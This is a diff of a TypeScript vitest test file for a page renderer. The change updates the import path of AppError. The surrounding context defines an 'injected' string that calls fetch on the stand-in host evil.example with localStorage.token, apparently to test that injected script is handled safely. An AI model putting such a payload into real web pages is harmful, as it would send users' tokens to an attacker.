@@ -10,7 +10,7 @@ import {
 import { expect, test } from "vitest";
 import type { GuestApp } from "../../app-context.ts";
 import * as entry from "../../entry.server.tsx";
-import { AppError } from "../../kit/app-error.ts";
+import { AppError } from "../../kit/api/app-error.ts";
 import { createPageRenderer, hashOf } from "./render-page.ts";
 
 const injected = "fetch('//evil.example/' + localStorage.token)";
